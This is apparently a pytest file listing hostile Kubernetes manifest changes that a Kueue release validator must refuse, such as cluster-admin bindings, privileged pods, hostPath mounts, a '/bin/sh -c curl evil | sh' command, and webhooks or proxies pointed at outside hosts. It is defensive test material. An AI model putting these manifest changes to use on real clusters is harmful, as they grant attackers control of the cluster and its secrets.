"""Hostile Kueue manifests (issue 10 items 4-7): every one is refused, naming the object.

Each case starts from a stand-in release built here with the shapes of the real v0.18.3
manifest (the toolchain test checks the real one passes unchanged), changes or adds what an
attacker controlling the manifest file or its mirror would, and expects prepare_manifest to
refuse it with the document index, the object and the reason.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from gpu_queues import keys
from gpu_queues.config.model import KueueConfig
from gpu_queues.release.allowlist import check_release, find
from gpu_queues.release.catalogue import Document
from gpu_queues.release.manifest import ManifestError, parse_documents, prepare_manifest

pytestmark = pytest.mark.unit

VERSION = "v0.18.3"
NS = "kueue-system"
RBAC = "rbac.authorization.k8s.io/v1"
LABELS = {"app.kubernetes.io/name": "kueue", "control-plane": "controller-manager"}
SA = {"kind": "ServiceAccount", "name": "kueue-controller-manager", "namespace": NS}
NOT_SYSTEM = {
    "matchExpressions": [
        {"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["kube-system", NS]}
    ]
}


def meta(name: str, namespace: str | None = None, **extra: Any) -> dict[str, Any]:
    out: dict[str, Any] = {"name": name, "labels": dict(LABELS), **extra}
    if namespace:
        out["namespace"] = namespace
    return out


def controller(image: str = f"registry.k8s.io/kueue/kueue:{VERSION}") -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": meta("kueue-controller-manager", NS),
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {"control-plane": "controller-manager"}},
            "template": {
                "metadata": {"labels": dict(LABELS)},
                "spec": {
                    "serviceAccountName": "kueue-controller-manager",
                    "securityContext": {
                        "runAsNonRoot": True,
                        "seccompProfile": {"type": "RuntimeDefault"},
                    },
                    "containers": [
                        {
                            "name": "manager",
                            "image": image,
                            "command": ["/manager"],
                            "args": ["--config=/controller_manager_config.yaml"],
                            "ports": [{"containerPort": 9443, "name": "webhook-server"}],
                            "securityContext": {
                                "allowPrivilegeEscalation": False,
                                "capabilities": {"drop": ["ALL"]},
                                "readOnlyRootFilesystem": True,
                            },
                            "volumeMounts": [
                                {"mountPath": "/visibility", "name": "visibility"},
                                {"mountPath": "/tmp/certs", "name": "cert", "readOnly": True},
                            ],
                        }
                    ],
                    "volumes": [
                        {"name": "visibility", "emptyDir": {}},
                        {"name": "cert", "secret": {"secretName": "kueue-webhook-server-cert"}},
                        {"name": "manager-config", "configMap": {"name": "kueue-manager-config"}},
                    ],
                },
            },
        },
    }


def webhook(name: str, group: str, resource: str, selector: bool) -> dict[str, Any]:
    hook: dict[str, Any] = {
        "name": name,
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": "Fail",
        "clientConfig": {
            "service": {"name": "kueue-webhook-service", "namespace": NS, "path": f"/{name}"}
        },
        "rules": [
            {
                "apiGroups": [group],
                "apiVersions": ["v1"],
                "operations": ["CREATE", "UPDATE"],
                "resources": [resource],
            }
        ],
    }
    if selector:
        hook["namespaceSelector"] = copy.deepcopy(NOT_SYSTEM)
    return hook


def release() -> list[dict[str, Any]]:
    """A small release with every shape the real one has (one of each kind)."""
    return [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": meta(NS)},
        {
            "apiVersion": "apiextensions.k8s.io/v1",
            "kind": "CustomResourceDefinition",
            "metadata": meta("clusterqueues.kueue.x-k8s.io"),
            "spec": {
                "group": "kueue.x-k8s.io",
                "names": {"kind": "ClusterQueue", "plural": "clusterqueues"},
                "scope": "Cluster",
                "conversion": {
                    "strategy": "Webhook",
                    "webhook": {
                        "clientConfig": {
                            "service": {
                                "name": "kueue-webhook-service",
                                "namespace": NS,
                                "path": "/convert",
                            }
                        },
                        "conversionReviewVersions": ["v1"],
                    },
                },
                "versions": [{"name": "v1beta2", "served": True, "storage": True}],
            },
        },
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(SA["name"], NS)},
        {
            "apiVersion": RBAC,
            "kind": "Role",
            "metadata": meta("kueue-manager-secrets-role", NS),
            "rules": [
                {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list", "update"]}
            ],
        },
        {
            "apiVersion": RBAC,
            "kind": "ClusterRole",
            "metadata": meta("kueue-manager-role"),
            "rules": [
                {"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "delete"]},
                {
                    "apiGroups": ["kueue.x-k8s.io"],
                    "resources": ["clusterqueues", "workloads"],
                    "verbs": ["create", "delete", "get", "list", "patch", "update", "watch"],
                },
            ],
        },
        {
            "apiVersion": RBAC,
            "kind": "ClusterRole",
            "metadata": meta(
                "kueue-job-viewer-role",
                labels={
                    **LABELS,
                    "rbac.authorization.k8s.io/aggregate-to-view": "true",
                    "rbac.kueue.x-k8s.io/batch-user": "true",
                },
            ),
            "rules": [
                {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["get", "list", "watch"]}
            ],
        },
        {
            "apiVersion": RBAC,
            "kind": "ClusterRole",
            "metadata": meta("kueue-batch-user-role"),
            "aggregationRule": {
                "clusterRoleSelectors": [
                    {"matchLabels": {"rbac.kueue.x-k8s.io/batch-user": "true"}}
                ]
            },
        },
        {
            "apiVersion": RBAC,
            "kind": "RoleBinding",
            "metadata": meta("kueue-visibility-server-auth-reader", "kube-system"),
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "Role",
                "name": "extension-apiserver-authentication-reader",
            },
            "subjects": [dict(SA)],
        },
        {
            "apiVersion": RBAC,
            "kind": "RoleBinding",
            "metadata": meta("kueue-manager-secrets-rolebinding", NS),
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "Role",
                "name": "kueue-manager-secrets-role",
            },
            "subjects": [dict(SA)],
        },
        {
            "apiVersion": RBAC,
            "kind": "ClusterRoleBinding",
            "metadata": meta("kueue-manager-rolebinding"),
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "ClusterRole",
                "name": "kueue-manager-role",
            },
            "subjects": [dict(SA)],
        },
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": meta("kueue-manager-config", NS),
            "data": {
                "controller_manager_config.yaml": (
                    "apiVersion: config.kueue.x-k8s.io/v1beta2\nkind: Configuration\n"
                    "webhook:\n  port: 9443\n"
                )
            },
        },
        {"apiVersion": "v1", "kind": "Secret", "metadata": meta("kueue-webhook-server-cert", NS)},
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": meta("kueue-webhook-service", NS),
            "spec": {"ports": [{"port": 443, "targetPort": 9443}], "selector": {"a": "b"}},
        },
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": meta("kueue-visibility-server", NS),
            "spec": {"ports": [{"port": 443, "targetPort": 8082}], "selector": {"a": "b"}},
        },
        controller(),
        {
            "apiVersion": "apiregistration.k8s.io/v1",
            "kind": "APIService",
            "metadata": meta("v1beta2.visibility.kueue.x-k8s.io"),
            "spec": {
                "group": "visibility.kueue.x-k8s.io",
                "version": "v1beta2",
                "groupPriorityMinimum": 100,
                "versionPriority": 100,
                "insecureSkipTLSVerify": True,
                "service": {"name": "kueue-visibility-server", "namespace": NS},
            },
        },
        {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": meta("kueue-mutating-webhook-configuration"),
            "webhooks": [
                webhook("mpod.kb.io", "", "pods", selector=True),
                webhook("mclusterqueue.kb.io", "kueue.x-k8s.io", "clusterqueues", selector=False),
            ],
        },
        {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "ValidatingWebhookConfiguration",
            "metadata": meta("kueue-validating-webhook-configuration"),
            "webhooks": [webhook("vjob.kb.io", "batch", "jobs", selector=True)],
        },
    ]


def kueue(**data: Any) -> KueueConfig:
    return KueueConfig.model_validate(data)


def one(objects: list[dict[str, Any]], kind: str, name: str) -> dict[str, Any]:
    return next(o for o in objects if o["kind"] == kind and o["metadata"]["name"] == name)


def pod_spec(objects: list[dict[str, Any]]) -> dict[str, Any]:
    spec: dict[str, Any] = one(objects, "Deployment", "kueue-controller-manager")["spec"]
    return spec["template"]["spec"]


def manager(objects: list[dict[str, Any]]) -> dict[str, Any]:
    container: dict[str, Any] = pod_spec(objects)["containers"][0]
    return container


def binding(kind: str, name: str, role_kind: str, role: str, **more: Any) -> dict[str, Any]:
    return {
        "apiVersion": RBAC,
        "kind": kind,
        "metadata": meta(name, more.pop("namespace", None)),
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role},
        "subjects": more.pop("subjects", [dict(SA)]),
    }


def cluster_role(name: str, rules: list[dict[str, Any]], **labels: str) -> dict[str, Any]:
    return {
        "apiVersion": RBAC,
        "kind": "ClusterRole",
        "metadata": meta(name, labels={**LABELS, **labels}),
        "rules": rules,
    }


def added(obj: dict[str, Any], at: int | None = None) -> Callable[[list[dict[str, Any]]], None]:
    def change(objects: list[dict[str, Any]]) -> None:
        objects.insert(len(objects) if at is None else at, obj)

    return change


def edit(fn: Callable[[list[dict[str, Any]]], Any]) -> Callable[[list[dict[str, Any]]], None]:
    def change(objects: list[dict[str, Any]]) -> None:
        fn(objects)

    return change


def daemonset(namespace: str, privileged: bool) -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": meta("node-agent", namespace),
        "spec": {
            "selector": {"matchLabels": {"a": "b"}},
            "template": {
                "metadata": {"labels": {"a": "b"}},
                "spec": {
                    "hostPID": True,
                    "containers": [
                        {
                            "name": "agent",
                            "image": "evil.example/agent:1",
                            "securityContext": {"privileged": privileged},
                        }
                    ],
                },
            },
        },
    }


def queue_object(kind: str, namespace: str | None = None) -> dict[str, Any]:
    return {
        "apiVersion": "kueue.x-k8s.io/v1beta2",
        "kind": kind,
        "metadata": meta(f"extra-{kind.lower()}", namespace),
        "spec": {},
    }


def secret(namespace: str, **body: Any) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Secret", "metadata": meta("creds", namespace), **body}


def _set(path: list[Any], value: Any) -> Callable[[list[dict[str, Any]]], None]:
    """Set a key inside the object selected by (kind, name) at path[2:]."""

    def change(objects: list[dict[str, Any]]) -> None:
        node: Any = one(objects, path[0], path[1])
        for part in path[2:-1]:
            node = node.setdefault(part, {}) if isinstance(part, str) else node[part]
        node[path[-1]] = value

    return change


# (case id, change, text the error must contain)
HOSTILE: list[tuple[str, Callable[[list[dict[str, Any]]], None], str]] = [
    # --- RBAC: bindings
    (
        "crb-to-cluster-admin",
        added(binding("ClusterRoleBinding", "kueue-admin", "ClusterRole", "cluster-admin")),
        "ClusterRoleBinding kueue-admin: binds the built-in ClusterRole cluster-admin",
    ),
    (
        "crb-unprefixed-to-cluster-admin",
        added(binding("ClusterRoleBinding", "ops-admin", "ClusterRole", "cluster-admin")),
        "ClusterRoleBinding ops-admin: cluster-wide ClusterRoleBinding names of a release start",
    ),
    (
        "crb-system-role",
        added(binding("ClusterRoleBinding", "kueue-node", "ClusterRole", "system:node")),
        "binds the built-in ClusterRole system:node",
    ),
    (
        "crb-to-everyone",
        added(
            binding(
                "ClusterRoleBinding",
                "kueue-all",
                "ClusterRole",
                "kueue-manager-role",
                subjects=[{"kind": "Group", "name": "system:authenticated"}],
            )
        ),
        "subjects[0] is Group system:authenticated",
    ),
    (
        "real-crb-subject-swapped-to-user",
        _set(
            ["ClusterRoleBinding", "kueue-manager-rolebinding", "subjects"],
            [{"kind": "User", "name": "mallory"}],
        ),
        "ClusterRoleBinding kueue-manager-rolebinding: subjects[0] is User mallory",
    ),
    (
        "crb-subject-sa-in-kube-system",
        _set(
            ["ClusterRoleBinding", "kueue-manager-rolebinding", "subjects"],
            [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}],
        ),
        "subjects[0] is ServiceAccount kube-system/default",
    ),
    (
        "crb-subject-undeclared-sa",
        _set(
            ["ClusterRoleBinding", "kueue-manager-rolebinding", "subjects"],
            [{"kind": "ServiceAccount", "name": "default", "namespace": NS}],
        ),
        "which this manifest does not define",
    ),
    (
        "crb-to-undeclared-role",
        _set(["ClusterRoleBinding", "kueue-manager-rolebinding", "roleRef", "name"], "kueue-x"),
        "binds ClusterRole kueue-x, which this manifest does not define",
    ),
    (
        "rolebinding-kube-system-admin",
        added(binding("RoleBinding", "kueue-ks", "ClusterRole", "admin", namespace="kube-system")),
        "RoleBinding kube-system/kueue-ks: in kube-system a release only binds Role "
        "extension-apiserver-authentication-reader",
    ),
    (
        "rolebinding-other-namespace",
        added(binding("RoleBinding", "kueue-x", "ClusterRole", "edit", namespace="team-a")),
        "is in namespace team-a",
    ),
    (
        "rolebinding-edit-in-kueue-ns",
        added(binding("RoleBinding", "extra", "ClusterRole", "edit", namespace=NS)),
        "binds the built-in ClusterRole edit",
    ),
    # --- RBAC: roles
    (
        "clusterrole-wildcard",
        added(
            cluster_role("kueue-all", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])
        ),
        "ClusterRole kueue-all: rules[0] uses a wildcard in apiGroups, resources, verbs",
    ),
    (
        "clusterrole-escalate",
        added(
            cluster_role(
                "kueue-esc",
                [{"apiGroups": ["kueue.x-k8s.io"], "resources": ["x"], "verbs": ["escalate"]}],
            )
        ),
        "grants escalate",
    ),
    (
        "clusterrole-rbac-write",
        added(
            cluster_role(
                "kueue-rbac",
                [
                    {
                        "apiGroups": ["rbac.authorization.k8s.io"],
                        "resources": ["clusterrolebindings"],
                        "verbs": ["create"],
                    }
                ],
            )
        ),
        "grants access to RBAC objects",
    ),
    (
        "manager-role-reads-all-secrets",
        edit(
            lambda o: one(o, "ClusterRole", "kueue-manager-role")["rules"].append(
                {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}
            )
        ),
        "ClusterRole kueue-manager-role: rules[2] grants Secrets in every namespace",
    ),
    (
        "manager-role-pod-exec",
        edit(
            lambda o: one(o, "ClusterRole", "kueue-manager-role")["rules"].append(
                {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}
            )
        ),
        "grants pods/exec",
    ),
    (
        "manager-role-token-minting",
        edit(
            lambda o: one(o, "ClusterRole", "kueue-manager-role")["rules"].append(
                {"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["create"]}
            )
        ),
        "grants serviceaccounts/token",
    ),
    (
        "aggregated-to-view-reads-secrets",
        edit(
            lambda o: one(o, "ClusterRole", "kueue-job-viewer-role")["rules"].append(
                {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}
            )
        ),
        "grants core resources (configmaps) while aggregated into the built-in view",
    ),
    (
        "aggregated-to-view-writes",
        _set(
            ["ClusterRole", "kueue-job-viewer-role", "rules", 0, "verbs"],
            ["get", "list", "watch", "delete"],
        ),
        "grants delete while the role is aggregated into the built-in view",
    ),
    (
        "aggregation-rule-collects-admin",
        _set(
            ["ClusterRole", "kueue-batch-user-role", "aggregationRule", "clusterRoleSelectors"],
            [{"matchLabels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}],
        ),
        "aggregationRule selects roles by rbac.authorization.k8s.io/aggregate-to-admin",
    ),
    (
        "aggregation-rule-empty-selector",
        _set(
            ["ClusterRole", "kueue-batch-user-role", "aggregationRule", "clusterRoleSelectors"],
            [{}],
        ),
        "aggregationRule has an empty selector",
    ),
    (
        "clusterrole-unprefixed",
        added(cluster_role("system:controller:x", [])),
        "ClusterRole system:controller:x: cluster-wide ClusterRole names of a release start",
    ),
    (
        "role-in-kube-system",
        added(
            {
                "apiVersion": RBAC,
                "kind": "Role",
                "metadata": meta("kueue-x", "kube-system"),
                "rules": [],
            }
        ),
        "Role kube-system/kueue-x: is in namespace kube-system",
    ),
    # --- workloads
    (
        "privileged-daemonset-kube-system",
        added(daemonset("kube-system", privileged=True)),
        "DaemonSet kube-system/node-agent: kind DaemonSet (apps/v1) is not something a Kueue "
        "release ships",
    ),
    (
        "daemonset-kueue-ns",
        added(daemonset(NS, privileged=False)),
        "DaemonSet kueue-system/node-agent",
    ),
    (
        "extra-deployment",
        added({**controller(), "metadata": meta("miner", NS)}),
        "Deployment kueue-system/miner: a release runs one workload",
    ),
    (
        "bare-pod",
        added({"apiVersion": "v1", "kind": "Pod", "metadata": meta("p", NS), "spec": {}}),
        "kind Pod (v1) is not something a Kueue release ships",
    ),
    (
        "cronjob",
        added({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": meta("c", NS)}),
        "kind CronJob (batch/v1)",
    ),
    (
        "controller-privileged",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "containers",
                0,
                "securityContext",
                "privileged",
            ],
            True,
        ),
        "container manager is privileged",
    ),
    (
        "controller-caps",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "containers",
                0,
                "securityContext",
                "capabilities",
            ],
            {"add": ["SYS_ADMIN"]},
        ),
        "adds capabilities SYS_ADMIN",
    ),
    (
        "controller-root",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "securityContext",
                "runAsUser",
            ],
            0,
        ),
        "the pod runs as root",
    ),
    (
        "controller-host-pid",
        _set(
            ["Deployment", "kueue-controller-manager", "spec", "template", "spec", "hostPID"], True
        ),
        "the pod sets hostPID",
    ),
    (
        "controller-host-network",
        _set(
            ["Deployment", "kueue-controller-manager", "spec", "template", "spec", "hostNetwork"],
            True,
        ),
        "the pod sets hostNetwork",
    ),
    (
        "controller-hostpath",
        edit(lambda o: pod_spec(o)["volumes"].append({"name": "root", "hostPath": {"path": "/"}})),
        "volume root is of type hostPath",
    ),
    (
        "controller-init-container",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "initContainers",
            ],
            [{"name": "init", "image": "busybox"}],
        ),
        "the pod has initContainers",
    ),
    (
        "controller-sidecar",
        edit(
            lambda o: pod_spec(o)["containers"].append(
                {"name": "proxy", "image": "evil.example/proxy:1"}
            )
        ),
        "the pod runs containers ['manager', 'proxy']",
    ),
    (
        "controller-shell-command",
        edit(lambda o: manager(o).__setitem__("command", ["/bin/sh", "-c", "curl evil | sh"])),
        "container manager runs command",
    ),
    (
        "controller-default-sa",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "serviceAccountName",
            ],
            "default",
        ),
        "the pod runs as ServiceAccount default",
    ),
    (
        "controller-host-port",
        edit(lambda o: manager(o)["ports"].append({"containerPort": 1, "hostPort": 22})),
        "binds a host port",
    ),
    (
        "controller-api-server-redirect",
        edit(
            lambda o: manager(o).__setitem__(
                "env",
                [
                    {"name": "KUBERNETES_SERVICE_HOST", "value": "203.0.113.7"},
                    {"name": "https_proxy", "value": "http://203.0.113.7:3128"},
                ],
            )
        ),
        "sets KUBERNETES_SERVICE_HOST, https_proxy, which redirect",
    ),
    (
        "controller-env-from",
        edit(lambda o: manager(o).__setitem__("envFrom", [{"configMapRef": {"name": "x"}}])),
        "takes its environment from other objects",
    ),
    (
        "controller-selinux-spc",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "securityContext",
                "seLinuxOptions",
            ],
            {"type": "spc_t"},
        ),
        "the pod sets SELinux options",
    ),
    (
        "controller-deprecated-service-account-field",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "spec",
                "serviceAccount",
            ],
            "default",
        ),
        "the pod runs as ServiceAccount default",
    ),
    # --- image tied to the version (item 6)
    (
        "image-main",
        edit(lambda o: manager(o).__setitem__("image", "registry.k8s.io/kueue/kueue:main")),
        "its tag main is not kueue.version v0.18.3",
    ),
    (
        "image-other-version",
        edit(lambda o: manager(o).__setitem__("image", "registry.k8s.io/kueue/kueue:v0.1.0")),
        "its tag v0.1.0 is not kueue.version v0.18.3",
    ),
    (
        "image-untagged",
        edit(lambda o: manager(o).__setitem__("image", "registry.k8s.io/kueue/kueue")),
        "its tag (none) is not kueue.version",
    ),
    (
        "image-other-registry",
        edit(lambda o: manager(o).__setitem__("image", "evil.example/kueue/kueue:v0.18.3")),
        "set gpu-queues:kueue.controller.imageRegistry",
    ),
    (
        "image-mirror-with-port",
        edit(lambda o: manager(o).__setitem__("image", "mirror.corp:5000/kueue/kueue:v0.18.3")),
        "The image must be Kueue's official one",
    ),
    (
        "image-digest",
        edit(
            lambda o: manager(o).__setitem__(
                "image", "registry.k8s.io/kueue/kueue:v0.18.3@sha256:" + "0" * 64
            )
        ),
        "a digest cannot be tied to Kueue v0.18.3",
    ),
    # --- Secrets and ConfigMaps
    (
        "secret-kube-system",
        added(secret("kube-system", stringData={"token": "x"})),
        "Secret kube-system/creds: is in namespace kube-system",
    ),
    (
        "secret-with-data",
        added(secret(NS, data={"tls.crt": "AAAA"})),
        "Secret kueue-system/creds: carries data",
    ),
    (
        "cert-secret-preloaded",
        _set(["Secret", "kueue-webhook-server-cert", "data"], {"tls.key": "AAAA"}),
        "Secret kueue-system/kueue-webhook-server-cert: carries data",
    ),
    (
        "secret-sa-token",
        added(secret(NS, type="kubernetes.io/service-account-token")),
        "has type kubernetes.io/service-account-token",
    ),
    (
        "configmap-kube-system",
        added(
            {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": meta("coredns", "kube-system"),
                "data": {"Corefile": "."},
            }
        ),
        "ConfigMap kube-system/coredns: is in namespace kube-system",
    ),
    (
        "configmap-no-namespace",
        added({"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta("floating")}),
        "ConfigMap floating: has no namespace",
    ),
    # --- Kueue queue objects (item 4)
    (
        "extra-clusterqueue",
        added(queue_object("ClusterQueue")),
        "ClusterQueue extra-clusterqueue: ClusterQueue is a Kueue API object, not part of a "
        "release",
    ),
    ("extra-localqueue", added(queue_object("LocalQueue", "default")), "LocalQueue is a Kueue"),
    ("extra-flavor", added(queue_object("ResourceFlavor")), "ResourceFlavor is a Kueue"),
    ("extra-cohort", added(queue_object("Cohort")), "Cohort is a Kueue"),
    # --- namespaces, scope, kinds
    (
        "namespace-other",
        added({"apiVersion": "v1", "kind": "Namespace", "metadata": meta("evil")}),
        "Namespace evil: a release creates only namespace kueue-system",
    ),
    (
        "cluster-object-with-namespace",
        added({**cluster_role("kueue-x", []), "metadata": meta("kueue-x", NS)}),
        "is cluster-scoped but names namespace kueue-system",
    ),
    (
        "old-rbac-version",
        added(
            {
                **binding("ClusterRoleBinding", "kueue-b", "ClusterRole", "kueue-manager-role"),
                "apiVersion": "rbac.authorization.k8s.io/v1beta1",
            }
        ),
        "apiVersion rbac.authorization.k8s.io/v1beta1 is not the one a Kueue release uses",
    ),
    (
        "unknown-top-level-field",
        _set(["ConfigMap", "kueue-manager-config", "spec"], {"x": 1}),
        "has top-level field(s) spec, unknown to a ConfigMap",
    ),
    (
        "network-policy-opening-everything",
        added(
            {
                "apiVersion": "networking.k8s.io/v1",
                "kind": "NetworkPolicy",
                "metadata": meta("allow-all", "kube-system"),
                "spec": {},
            }
        ),
        "kind NetworkPolicy",
    ),
    # --- CRDs, webhooks, API services
    (
        "crd-other-group",
        added(
            {
                "apiVersion": "apiextensions.k8s.io/v1",
                "kind": "CustomResourceDefinition",
                "metadata": meta("widgets.example.com"),
                "spec": {"group": "example.com", "names": {"plural": "widgets"}},
            }
        ),
        "defines API group 'example.com', not Kueue's",
    ),
    (
        "crd-conversion-to-url",
        _set(
            [
                "CustomResourceDefinition",
                "clusterqueues.kueue.x-k8s.io",
                "spec",
                "conversion",
                "webhook",
                "clientConfig",
            ],
            {"url": "https://evil.example/convert"},
        ),
        "sends requests to a URL (https://evil.example/convert)",
    ),
    (
        "webhook-to-url",
        _set(
            [
                "MutatingWebhookConfiguration",
                "kueue-mutating-webhook-configuration",
                "webhooks",
                0,
                "clientConfig",
            ],
            {"url": "https://evil.example/mutate"},
        ),
        "webhooks[0] (mpod.kb.io).clientConfig sends requests to a URL",
    ),
    (
        "webhook-to-foreign-service",
        _set(
            [
                "MutatingWebhookConfiguration",
                "kueue-mutating-webhook-configuration",
                "webhooks",
                0,
                "clientConfig",
                "service",
                "namespace",
            ],
            "default",
        ),
        "points at Service default/kueue-webhook-service",
    ),
    (
        "webhook-everything",
        _set(
            [
                "ValidatingWebhookConfiguration",
                "kueue-validating-webhook-configuration",
                "webhooks",
                0,
                "rules",
                0,
                "resources",
            ],
            ["*"],
        ),
        "uses a wildcard: it would see every object",
    ),
    (
        "webhook-on-secrets",
        _set(
            [
                "ValidatingWebhookConfiguration",
                "kueue-validating-webhook-configuration",
                "webhooks",
                0,
                "rules",
                0,
            ],
            {"apiGroups": [""], "resources": ["secrets"], "operations": ["CREATE"]},
        ),
        "intercepts core secrets",
    ),
    (
        "webhook-on-rbac",
        _set(
            [
                "ValidatingWebhookConfiguration",
                "kueue-validating-webhook-configuration",
                "webhooks",
                0,
                "rules",
                0,
                "apiGroups",
            ],
            ["rbac.authorization.k8s.io"],
        ),
        "intercepts rbac.authorization.k8s.io",
    ),
    (
        "pod-webhook-reaches-kube-system",
        edit(
            lambda o: one(
                o, "MutatingWebhookConfiguration", "kueue-mutating-webhook-configuration"
            )["webhooks"][0].pop("namespaceSelector")
        ),
        "without a namespaceSelector excluding kube-system",
    ),
    (
        "apiservice-hijacks-metrics",
        added(
            {
                "apiVersion": "apiregistration.k8s.io/v1",
                "kind": "APIService",
                "metadata": meta("v1beta1.metrics.k8s.io"),
                "spec": {
                    "group": "metrics.k8s.io",
                    "version": "v1beta1",
                    "service": {"name": "kueue-visibility-server", "namespace": NS},
                },
            }
        ),
        "serves API group 'metrics.k8s.io'",
    ),
    (
        "apiservice-foreign-service",
        _set(
            ["APIService", "v1beta2.visibility.kueue.x-k8s.io", "spec", "service"],
            {"name": "evil", "namespace": "default"},
        ),
        "spec.service points at Service default/evil",
    ),
    (
        "service-loadbalancer",
        _set(["Service", "kueue-webhook-service", "spec", "type"], "LoadBalancer"),
        "is of type LoadBalancer",
    ),
    (
        "service-external-ips",
        _set(["Service", "kueue-webhook-service", "spec", "externalIPs"], ["10.0.0.1"]),
        "sets externalIPs",
    ),
    # --- identity (item 5) and the program's own keys (item 7)
    (
        "duplicate-configmap",
        edit(lambda o: o.append(copy.deepcopy(one(o, "ConfigMap", "kueue-manager-config")))),
        "ConfigMap kueue-system/kueue-manager-config: duplicate of document 10",
    ),
    (
        "decoy-configmap-listed-first",
        added(
            {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": meta("kueue-manager-config", "default"),
                "data": {"controller_manager_config.yaml": "kind: Configuration\n"},
            },
            at=0,
        ),
        "document 0: ConfigMap default/kueue-manager-config: is in namespace default",
    ),
    (
        "checksum-annotation-on-controller",
        _set(
            ["Deployment", "kueue-controller-manager", "metadata", "annotations"],
            {keys.ANNOTATION_MANIFEST_SHA256: "f" * 64},
        ),
        "carries metadata.annotations.gpu-queues.dev/manifest-sha256",
    ),
    (
        "checksum-annotation-in-pod-template",
        _set(
            [
                "Deployment",
                "kueue-controller-manager",
                "spec",
                "template",
                "metadata",
                "annotations",
            ],
            {keys.ANNOTATION_MANIFEST_SHA256: "f" * 64},
        ),
        "carries spec.template.metadata.annotations.gpu-queues.dev/manifest-sha256",
    ),
    (
        "checksum-annotation-elsewhere",
        _set(["Namespace", NS, "metadata", "annotations"], {"gpu-queues.dev/anything": "1"}),
        "Namespace kueue-system: carries metadata.annotations.gpu-queues.dev/anything: "
        "gpu-queues.dev/* and pulumi.com/* keys are written by this program only",
    ),
    (
        "provider-steering-annotation",
        _set(
            ["ClusterRole", "kueue-manager-role", "metadata", "annotations"],
            {"pulumi.com/patchForce": "true"},
        ),
        "carries metadata.annotations.pulumi.com/patchForce",
    ),
    # --- the release's manager Configuration may not change what Kueue manages
    (
        "config-manages-every-job",
        _set(
            ["ConfigMap", "kueue-manager-config", "data", "controller_manager_config.yaml"],
            "kind: Configuration\nmanageJobsWithoutQueueName: true\n",
        ),
        "ConfigMap kueue-system/kueue-manager-config: controller_manager_config.yaml sets "
        "manageJobsWithoutQueueName: a release leaves what Kueue manages to the stack config",
    ),
    (
        "config-feature-gates-and-selector",
        _set(
            ["ConfigMap", "kueue-manager-config", "data", "controller_manager_config.yaml"],
            "kind: Configuration\nfeatureGates: {X: true}\nmanagedJobsNamespaceSelector: {}\n",
        ),
        "sets featureGates, managedJobsNamespaceSelector",
    ),
    (
        "config-external-frameworks",
        _set(
            ["ConfigMap", "kueue-manager-config", "data", "controller_manager_config.yaml"],
            "kind: Configuration\nintegrations: {externalFrameworks: [Foo.v1.example.com]}\n",
        ),
        "sets integrations.externalFrameworks",
    ),
    (
        "config-not-a-mapping",
        _set(
            ["ConfigMap", "kueue-manager-config", "data", "controller_manager_config.yaml"],
            "- just\n- a list\n",
        ),
        "controller_manager_config.yaml is not Kueue's Configuration",
    ),
    (
        "config-missing",
        _set(["ConfigMap", "kueue-manager-config", "data"], {"other.yaml": "x: 1"}),
        "has no controller_manager_config.yaml",
    ),
    # --- required objects
    (
        "missing-manager-configmap",
        edit(lambda o: o.remove(one(o, "ConfigMap", "kueue-manager-config"))),
        "ConfigMap kueue-system/kueue-manager-config: missing",
    ),
    (
        "missing-controller",
        edit(lambda o: o.remove(one(o, "Deployment", "kueue-controller-manager"))),
        "Deployment kueue-system/kueue-controller-manager: missing",
    ),
    (
        "missing-namespace",
        edit(lambda o: o.remove(one(o, "Namespace", NS))),
        "Namespace kueue-system: missing",
    ),
]


def test_the_stand_in_release_passes_unchanged():
    prepared = prepare_manifest(release(), kueue())
    assert len(prepared.objects) == len(release())
    assert prepared.namespaces == {NS}


@pytest.mark.parametrize(
    ("change", "expected"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE]
)
